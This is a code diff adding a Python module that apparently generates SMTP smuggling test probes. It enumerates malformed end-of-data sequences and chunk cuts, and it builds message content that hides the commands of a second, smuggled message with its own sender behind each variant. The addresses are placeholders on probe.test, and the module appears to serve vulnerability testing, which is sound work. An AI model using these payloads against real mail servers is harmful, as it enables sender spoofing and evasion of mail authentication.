@@ -1,0 +1,83 @@
+r"""What may be taken for the end of a message's content: variants of CRLF . CRLF (RFC 5321 4.1.1.4), and of a dot in a chunk.
+
+Each is a piece of content that ends no message. A server that ends one there takes what follows for commands: one message
+becomes two (SMTP smuggling), with an envelope that the author of the content has chosen.
+"""
+
+from dataclasses import dataclass
+
+_LINE_ENDS = {"crlf": b"\r\n", "lf": b"\n", "cr": b"\r"}
+_CUTS = (512, 990, 998, 1000, 1024, 2046, 2047, 2048, 4096, 8192, 16384)
+"""Lengths at which servers are known to cut lines, or to read."""
+
+SMUGGLED_SENDER = "smuggled@probe.test"
+"""The reverse-path of the message that would be smuggled."""
+
+
+@dataclass(frozen=True, slots=True)
+class Variant:
+    """Octets within the content of a message; `chunked`: the message is sent by BDAT, cut where the second part begins."""
+
+    name: str
+    octets: bytes
+    chunked: bool = False
+    cut: int = 0
+
+
+def _variants() -> dict[str, Variant]:
+    """Return all variants by name."""
+    octets: dict[str, bytes] = {}
+    for before, first in _LINE_ENDS.items():
+        for after, last in _LINE_ENDS.items():
+            if (before, after) != ("crlf", "crlf"):
+                octets[f"{before}-dot-{after}"] = first + b"." + last
+    octets |= {
+        "crlf-dot-cr-crlf": b"\r\n.\r\r\n",
+        "cr-crlf-dot-cr-crlf": b"\r\r\n.\r\r\n",
+        "lf-cr-dot-lf-cr": b"\n\r.\n\r",
+        "lf-cr-dot-cr-lf": b"\n\r.\r\n",
+        "nul-dot": b"\r\n\0.\r\n",
+        "dot-nul": b"\r\n.\0\r\n",
+        "cr-nul-lf-dot": b"\r\0\n.\r\n",
+        "dot-cr-nul-lf": b"\r\n.\r\0\n",
+        "lf-nul-dot-lf": b"\n\0.\n",
+        "dot-space": b"\r\n. \r\n",
+        "dot-tab": b"\r\n.\t\r\n",
+        "space-dot": b"\r\n .\r\n",
+        "two-dots": b"\r\n..\r\n",
+        "vertical-tabs": b"\v.\v",
+        "form-feeds": b"\f.\f",
+        "next-lines": b"\x85.\x85",
+        "line-separators": "\u2028.\u2028".encode(),
+        "crlf-with-high-bits": b"\x8d\x8a.\x8d\x8a",
+    }
+    octets |= {f"dot-after-{length}": b"\r\n" + b"x" * length + b".\r\n" for length in _CUTS}
+    variants = {name: Variant(name, piece) for name, piece in octets.items()}
+    for name, piece, cut in (
+        ("chunk-crlf-dot-crlf", b"\r\n.\r\n", 0),
+        ("chunk-cut-before-the-dot", b"\r\n.\r\n", 2),
+        ("chunk-cut-behind-the-dot", b"\r\n.\r\n", 3),
+        ("chunk-lf-dot-lf", b"\n.\n", 0),
+    ):
+        variants[name] = Variant(name, piece, chunked=True, cut=cut)
+    return variants
+
+
+VARIANTS = _variants()
+
+
+def content_of(variant: Variant, recipient: str, mark: str) -> tuple[bytes, ...]:
+    """Return the content of a message with a variant in it, without its end, in the chunks in which it is sent.
+
+    Behind the variant are the commands of a second message to `recipient`. `mark` is in the header of both.
+    """
+    head = f"From: <probe@probe.test>\r\nTo: <{recipient}>\r\nSubject: {variant.name}\r\nMessage-ID: <{mark}@probe.test>\r\n\r\n"
+    first = head.encode() + b"first part" + variant.octets
+    smuggled = (
+        f"MAIL FROM:<{SMUGGLED_SENDER}>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n"
+        f"Subject: smuggled by {variant.name}\r\nMessage-ID: <smuggled-{mark}@probe.test>\r\n\r\nsecond part\r\n"
+    ).encode()
+    if variant.cut:
+        at = len(first) - len(variant.octets) + variant.cut
+        return first[:at], first[at:] + smuggled
+    return (first + smuggled,)
